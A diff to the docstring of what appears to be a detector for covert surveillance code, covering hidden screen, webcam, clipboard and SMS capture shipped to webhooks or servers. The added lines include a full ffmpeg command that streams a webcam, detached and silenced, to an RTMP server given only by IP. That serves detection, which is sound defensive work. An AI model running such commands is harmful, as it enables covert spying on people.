@@ -5,7 +5,9 @@ What it catches
     `screencapture -x`; ffmpeg's `-f x11grab`, also on a continued line; Go's
     `screenshot.CaptureDisplay`, Java's `Robot.createScreenCapture`), webcam frames, audio,
     location or someone's chat messages (scraped from a page) captured in a loop or at
-    startup, hidden, and shipped to a webhook, mail or server.
+    startup, hidden, and shipped to a webhook, mail or server; also streamed live, detached
+    from the terminal, to a streaming server named only by its public address (`ffmpeg -f
+    v4l2 -i /dev/video0 ... -f flv rtmp://203.0.113.244/live/x >/dev/null 2>&1 &`).
     Whatever is on someone's clipboard (passwords, messages), read by a hidden or autostarted
     program and posted to a chat webhook or mailed. A phone's text messages (each one as it
     arrives: a bank's one-time codes), contacts or call log read through Android's providers
@@ -24,7 +26,8 @@ Allowed instead
     does not hide, disclosed monitoring, video-call code, a clipboard
     manager or a clipboard sync between one's own machines (kept in view, sent to one's own
     server rather than a chat webhook or a mailbox), an SMS backup the user starts, uploading
-    to their own account, a kiosk app switching which activity is its launcher.
+    to their own account, a kiosk app switching which activity is its launcher, a live stream to
+    a platform's ingest host by name or to one's own network's server.
 """
 
 from __future__ import annotations
